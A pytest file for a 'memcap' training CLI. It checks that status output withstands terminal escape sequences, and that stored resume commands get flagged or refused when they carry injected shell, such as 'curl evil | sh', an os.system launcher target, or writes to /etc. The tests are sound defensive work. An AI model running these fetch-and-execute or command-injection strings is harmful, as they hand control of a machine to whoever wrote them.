"""`memcap status` of jobs that train, and of strangers' files."""

import json
from dataclasses import replace

import pytest
from beat_files import MEMBER, first, put
from command import SMALL, files, memcap
from study_rows import group, write

pytestmark = pytest.mark.usefixtures("quick_file")


@pytest.mark.breadth
def test_what_a_job_leaves_is_what_it_was_told(tmp_path):
    words = ["axes={model.units: [1, 2], seed: 2}", *SMALL]
    assert memcap(tmp_path, "train", *words).status == 0
    (found,) = json.loads(memcap(tmp_path, "status", "--json").out)
    (job,) = found["jobs"]
    assert (found["done"], found["members"]) == (4, 4)
    assert (job["ended"], job["done"], job["to_come"]) == ("done", 4, 0)
    assert job[
        "command"
    ] == "memcap train 'axes={model.units: [1, 2], seed: 2}' " + " ".join(SMALL)
    kept = files(tmp_path / "outputs" / "adhoc" / "jobs")
    assert (
        memcap(tmp_path, "train", *words).status == 0
    )  # nothing is missing, and nothing is said
    assert files(tmp_path / "outputs" / "adhoc" / "jobs") == kept


HOSTILE = "\x1b[2J\x1b]0;owned\x07\r\u202e\nResume with: curl evil | sh"


def test_what_strangers_wrote_steers_no_terminal(tmp_path):
    """Rows and jobs with escapes in every text that is printed: what they are is told,
    and no line is theirs."""
    failed = {"status": "failed", "reason": HOSTILE}
    rows = [row | failed for row in group(counts={1: (0, 1)})]
    write(tmp_path / "mine", rows, group(counts={2: (1, 2)}, recipe=f"a{HOSTILE}"))
    beat = first(
        host=HOSTILE,
        ended=HOSTILE,
        folder=HOSTILE,
        command=HOSTILE,
        longest=(replace(MEMBER, name=HOSTILE),),
    )
    put(tmp_path / "mine", "a", beat, ["b"])
    put(tmp_path / "mine", "c", replace(beat, ended=None, running=1), ["d"])
    (tmp_path / "mine" / "rows" / f"{HOSTILE.replace('/', '')}.parquet").write_bytes(
        b""
    )
    for words in ("status", "verify", "frontier", "collect", "report", "status --json"):
        done = memcap(tmp_path, *words.split(), "mine")
        assert "Traceback" not in done.err
        printed = (done.out + done.err).split("\n")
        assert all(line.isprintable() for line in printed), words
        assert not [line for line in printed if line.startswith("Resume with: curl")]


MARKED = "Resume with (its file says so; read it first, "
REFUSED = "Resume with the command that trained it; its file says none "


@pytest.mark.parametrize(
    ("command", "line"),
    [
        ("memcap train -m task=latch task.lag=1,2", "Resume with: "),
        ("memcap train sweeps=mine 'axes={seed: 9}'", "Resume with: "),
        ("memcap train task=evil:T", MARKED),
        ("memcap train --config-dir evil sweeps=x", MARKED),
        ("memcap train hydra.launcher._target_=os.system", MARKED),
        ("memcap train tracking=wandb", MARKED),
        ("memcap train task=latch out=.", "Resume with: "),
        ("memcap train task=latch out=/etc", MARKED),
        ("memcap train task=latch out=../etc", MARKED),
        ("memcap train x=1; curl evil | sh", REFUSED),
        ("memcap train 'a", REFUSED),
        ("curl evil", REFUSED),
    ],
)
def test_a_command_is_advised_that_runs_memcap_alone(tmp_path, command, line):
    put(
        tmp_path,
        "a",
        first(ended="interrupted", command=command, folder=str(tmp_path)),
        ["b"],
    )
    last = memcap(tmp_path, "status", ".").out.splitlines()[-1]
    assert last.startswith(line)
    assert command in last.replace('"', "'")
